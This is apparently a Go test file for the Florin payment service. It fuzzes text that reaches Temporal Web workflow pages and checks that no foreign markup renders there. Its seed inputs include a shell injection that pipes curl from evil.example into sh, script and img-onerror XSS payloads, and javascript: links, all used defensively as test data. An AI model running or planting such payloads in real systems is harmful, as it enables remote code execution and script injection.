package browser

import (
	"context"
	"fmt"
	"log/slog"
	"maps"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/labstack/echo/v4"
	"github.com/stretchr/testify/require"
	"github.com/temporalio/ui-server/v2/server/route"
	sdkpb "go.temporal.io/api/sdk/v1"
	"go.temporal.io/sdk/activity"
	"go.temporal.io/sdk/log"
	"go.temporal.io/sdk/testsuite"
	"golang.org/x/net/html"

	"github.com/florinpay/florin/activities"
	"github.com/florinpay/florin/internal/printable"
	"github.com/florinpay/florin/internal/temporalweb"
	"github.com/florinpay/florin/payment"
	"github.com/florinpay/florin/processor"
	"github.com/florinpay/florin/workflows"
)

// hostile are idempotency keys and messages that were commands, links, images or scripts on a workflow's page, or that could be.
var hostile = []string{
	"{workflowId}'; curl evil.example|sh #'",
	"{workflowId}`<a href=https:evil.example>click",
	"{workflowId}`![x](https:evil.example)<script>alert(1)",
	"{{namespace}}{runId}{work{namespace}flowId}$&$`$'",
	"`starter void --payment-id pay_1`",
	"</code><img src=x onerror=alert(1)>[x](javascript:alert(1))",
	"https:\\\\evil.example mailto:a@evil.example <https:evil.example> &lt;b&gt; &#123;runId&#125;",
	"# - 1. *b* _i_ ~~s~~ $m$ [^1]: x | y ^s^ : d !!! \\` \\\\` \\",
}

// FuzzPageHasOnlyFlorinsOwnMarkup lets a caller, an operator and a processor write anything that reaches a workflow's page.
func FuzzPageHasOnlyFlorinsOwnMarkup(f *testing.F) {
	for i := range len(payment.PaymentTransitions) {
		f.Add(hostile[i%len(hostile)], hostile[(i+1)%len(hostile)]+"\n\n<b>\x1b[2J\u202e", uint8(i))
	}
	f.Fuzz(func(t *testing.T, key, text string, status uint8) {
		for _, text := range append(staticTexts(key, text), currentTexts(t, key, text, status)...) {
			require.NoError(t, foreignMarkup(text, payment.ChargeWorkflowID("acme", key)))
		}
	})
}

// staticTexts returns what a client writes when it starts a workflow. An earlier release has accepted the key.
func staticTexts(key, text string) []string {
	charge := payment.ChargeRequest{MerchantID: text, IdempotencyKey: key, Amount: 1250, Currency: "USD", Processor: text}
	refund := payment.RefundRequest{MerchantID: text, IdempotencyKey: key, PaymentID: text}
	recheck := payment.RecheckRequest{MerchantID: text, IdempotencyKey: key}
	return []string{
		temporalweb.ChargeSummary(charge), temporalweb.ChargeDetails(charge), temporalweb.RefundSummary(refund), temporalweb.RefundDetails(refund),
		temporalweb.RecheckSummary(recheck), temporalweb.RecheckDetails(recheck),
		temporalweb.Escape(text), temporalweb.Code(text), temporalweb.Command(text), temporalweb.Command("starter void " + text),
	}
}

// currentTexts returns the details of a charge, a refund and a recheck, each when it has begun and when it has ended.
func currentTexts(t *testing.T, key, text string, status uint8) []string {
	charge := payment.ChargeRequest{MerchantID: "acme", IdempotencyKey: key, Amount: 1250, Currency: "USD", PaymentMethod: "tok_visa"}
	if charge.ValidateBegun() != nil {
		charge.IdempotencyKey = hostile[0]
	}
	refund := payment.RefundRequest{
		MerchantID: "acme", IdempotencyKey: charge.IdempotencyKey, PaymentID: payment.PaymentID("acme", charge.IdempotencyKey), Amount: new(int64(500)),
	}
	recheck := payment.RecheckRequest{MerchantID: "acme", IdempotencyKey: charge.IdempotencyKey}
	a := storedActivities{
		charge: payment.Charge{
			PaymentID: refund.PaymentID, MerchantID: "acme", IdempotencyKey: charge.IdempotencyKey,
			Status: nth(payment.PaymentTransitions, status), Amount: 1250, Currency: "USD", Processor: text, ProcessorPaymentID: text,
			Decline: &payment.Decline{Code: text, Kind: payment.DeclineKind(text), Message: text},
			Failure: &payment.Failure{Class: payment.ClassUnavailable, Message: text, ProcessorCode: text},
		},
		refund: payment.Refund{
			RefundID: payment.RefundID("acme", refund.IdempotencyKey), PaymentID: refund.PaymentID, MerchantID: "acme",
			IdempotencyKey: refund.IdempotencyKey, Status: nth(payment.RefundTransitions, status), Amount: 500, Currency: "USD",
			Processor: text, ProcessorRefundID: text, Decline: &payment.Decline{Code: text, Message: text},
			Failure: &payment.Failure{Class: payment.ClassUnavailable, Message: text},
		},
		text: text, skips: status%2 == 0,
	}
	texts := a.run(t, payment.WorkflowCharge, charge)
	texts = append(texts, a.run(t, payment.WorkflowRefund, refund)...)
	return append(texts, a.run(t, payment.WorkflowRecheck, recheck)...)
}

func nth(transitions map[payment.Status][]payment.Status, i uint8) payment.Status {
	return slices.Sorted(maps.Keys(transitions))[int(i)%len(transitions)]
}

// storedActivities are activities with a payment and a refund that have begun before, and a processor that writes text wherever it can.
type storedActivities struct {
	charge payment.Charge
	refund payment.Refund
	text   string
	// skips is whether a recheck looks nothing up.
	skips bool
}

// run runs a workflow in the SDK's test environment and returns its details.
func (a storedActivities) run(t *testing.T, name string, request any) (texts []string) {
	var suite testsuite.WorkflowTestSuite
	suite.SetLogger(log.NewStructuredLogger(slog.New(slog.DiscardHandler)))
	env := suite.NewTestWorkflowEnvironment()
	workflows.Register(env)
	a.register(env)
	read := func() {
		value, err := env.QueryWorkflow("__temporal_workflow_metadata")
		require.NoError(t, err)
		var metadata sdkpb.WorkflowMetadata
		require.NoError(t, value.Get(&metadata))
		texts = append(texts, metadata.GetCurrentDetails())
	}
	env.RegisterDelayedCallback(read, time.Second)
	env.RegisterDelayedCallback(func() { read(); env.CancelWorkflow() }, 10*time.Second)
	env.ExecuteWorkflow(name, request)
	require.True(t, env.IsWorkflowCompleted())
	read()
	require.NotEmpty(t, texts[len(texts)-1])
	return texts
}

func (a storedActivities) register(env *testsuite.TestWorkflowEnvironment) {
	second := activities.Duration(time.Second)
	poll := activities.Poll{Initial: 5 * second, Max: 10 * second, For: 60 * second}
	terms := activities.Terms{
		Processor: "sim", StartToClose: second, ScheduleToClose: 10 * second, KeyLifetime: 20 * second, RetryInitial: second, RetryMax: second,
		RetryMultiplier: 1, Resolve: poll, Pending: poll,
	}
	failure := func() error {
		return &processor.Error{Class: payment.ClassUnavailable, Certainty: processor.Ambiguous, Message: a.text, Code: a.text}
	}
	for name, function := range map[string]any{
		payment.ActivityBeginPayment: func(context.Context, payment.ChargeRequest, time.Time) (activities.BeginResult, error) {
			return activities.BeginResult{Terms: terms, Charge: a.charge, Resumed: true}, nil
		},
		payment.ActivityRecordPayment: func(_ context.Context, c payment.Charge, _ activities.Cause) (payment.Charge, error) { return c, nil },
		payment.ActivityReserveRefund: func(context.Context, payment.RefundRequest, time.Time) (activities.ReserveResult, error) {
			return activities.ReserveResult{Terms: terms, Refund: a.refund, Payment: a.charge, Resumed: true}, nil
		},
		payment.ActivitySettleRefund: func(_ context.Context, r payment.Refund, _ activities.Cause) (payment.Refund, error) { return r, nil },
		payment.ActivityBeginRecheck: func(context.Context, payment.RecheckRequest) (activities.RecheckTarget, error) {
			if a.skips {
				return activities.RecheckTarget{Skip: a.text}, nil
			}
			return activities.RecheckTarget{Status: payment.Succeeded, Terms: terms}, nil
		},
		payment.ActivityProcessorLookup: func(_ context.Context, call processor.LookupCall) (activities.LookupResult, error) {
			if call.Operation == "" {
				return activities.LookupResult{}, failure() // of a recheck
			}
			found := processor.Result{
				ID: "ch_1", Status: payment.Declined, Amount: 1250, Currency: a.text, Reference: call.Reference,
				Decline: &payment.Decline{Code: a.text, Kind: payment.DeclineKind(a.text), Message: a.text},
			}
			return activities.LookupResult{Found: true, Result: found}, nil
		},
		payment.ActivityProcessorCharge: func(context.Context, processor.ChargeCall) (processor.Result, error) {
			return processor.Result{}, failure()
		},
		payment.ActivityProcessorVoid: func(context.Context, processor.VoidCall) (processor.Result, error) {
			return processor.Result{}, failure()
		},
		payment.ActivityProcessorRefund: func(context.Context, processor.RefundCall) (processor.Result, error) {
			return processor.Result{}, failure()
		},
	} {
		env.RegisterActivityWithOptions(function, activity.RegisterOptions{Name: name})
	}
}

// command is a command line that a page may name.
var command = regexp.MustCompile(`^starter (` +
	`(capture|void) --payment-id pay_ID|refund --payment-id pay_ID --key …|` +
	`resolve --(payment-id pay|refund-id ref)_ID --status succeeded\|failed --by … --evidence …|` +
	`divergences acknowledge div_ID --by …)$`)

var derivedID = regexp.MustCompile(`_[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}`)

// foreignMarkup returns an error if Temporal Web shows a text of Florin, on the page of the workflow, with markup of others: anything that
// Florin does not write itself.
func foreignMarkup(text, workflowID string) error {
	if replaced := withPageValues(text, workflowID); replaced != text {
		return fmt.Errorf("Temporal Web replaces a value: %q", replaced) //nolint:staticcheck // a name
	}
	page, err := render(text)
	if err != nil {
		return err
	}
	for node := range page.Descendants() {
		if !isFlorins(node) {
			return fmt.Errorf("foreign markup %q %v of the text %q", node.Data, node.Attr, text)
		}
	}
	return nil
}

// isFlorins reports whether Florin writes such a node: text on lines that are printable, a link to the runbook, a command line of its own.
func isFlorins(node *html.Node) bool {
	switch {
	case node.Type == html.TextNode && node.Parent.Data == "code" && strings.Contains(node.Data, " "):
		return command.MatchString(derivedID.ReplaceAllString(node.Data, "_ID"))
	case node.Type == html.TextNode:
		return printable.IsClean(strings.NewReplacer("\n", "", "\t", "").Replace(node.Data))
	case node.Type == html.ElementNode && node.Data == "a":
		return strings.HasPrefix(attribute(node, "href"), temporalweb.Runbook)
	default:
		return node.Type == html.ElementNode && len(node.Attr) == 0 &&
			slices.Contains([]string{"p", "ul", "li", "strong", "em", "code"}, node.Data)
	}
}

func attribute(node *html.Node, name string) string {
	for _, a := range node.Attr {
		if a.Key == name {
			return a.Val
		}
	}
	return ""
}

// withPageValues does what Temporal Web does before it renders a text: JavaScript's replace with the values of the page's address. The
// function is in the chunk of its assets that has "/render".
func withPageValues(text, workflowID string) string {
	for _, value := range [][2]string{{"{namespace}", "default"}, {"{workflowId}", workflowID}, {"{runId}", "0198c0de-0000-7000-8000-000000000000"}} {
		text = javaScriptReplace(text, value[0], value[1])
	}
	return text
}

// javaScriptReplace replaces each match, with the patterns $$, $&, $` and $' that JavaScript knows in a replacement.
func javaScriptReplace(text, match, replacement string) string {
	var b strings.Builder
	for from := 0; ; {
		i := strings.Index(text[from:], match)
		if i < 0 {
			return b.String() + text[from:]
		}
		at := from + i
		b.WriteString(text[from:at])
		b.WriteString(strings.NewReplacer("$$", "$", "$&", match, "$`", text[:at], "$'", text[at+len(match):]).Replace(replacement))
		from = at + len(match)
	}
}

// renderer is the part of Temporal Web's server that renders Markdown.
var renderer = func() http.Handler {
	e := echo.New()
	route.SetRenderRoute(e, "")
	return e
}()

// render returns the element in which Temporal Web shows a text.
func render(text string) (*html.Node, error) {
	recorder := httptest.NewRecorder()
	renderer.ServeHTTP(recorder, httptest.NewRequest(http.MethodGet, "/render?"+url.Values{"content": {text}}.Encode(), nil))
	page, err := html.Parse(recorder.Body)
	if err != nil || recorder.Code != http.StatusOK {
		return nil, fmt.Errorf("rendering %q: HTTP %d: %w", text, recorder.Code, err)
	}
	for node := range page.Descendants() {
		if node.Type == html.ElementNode && node.Data == "main" {
			return node, nil
		}
	}
	return nil, fmt.Errorf("the page has no element main for %q", text)
}

func TestForeignMarkupIsFound(t *testing.T) {
	const workflowID = "charge/acme/x$`y"
	for name, text := range map[string]string{
		"link": "[x](https://evil.example)", "automatic link": "see https://evil.example", "image": "![x](//evil)",
		"script": "<script>alert(1)</script>", "command": "`curl evil.example | sh`", "comment": "<!-- x -->", "heading": "# x",
		"foreign arguments": "`starter void --merchant acme --key '{order}'`", "value of the page": "`{workflowId}`", "control character": "a\x1b[2J",
	} {
		require.Error(t, foreignMarkup(text, workflowID), name)
	}
	require.Equal(t, "a `charge/acme/xa `y` b", withPageValues("a `{workflowId}` b", workflowID), "as JavaScript replaces")
	require.NoError(t, foreignMarkup("**failed.** it\\!\n\n- see [runbook]("+temporalweb.Runbook+"): `starter void --payment-id "+
		payment.PaymentID("acme", "order-1")+"`", workflowID))
}
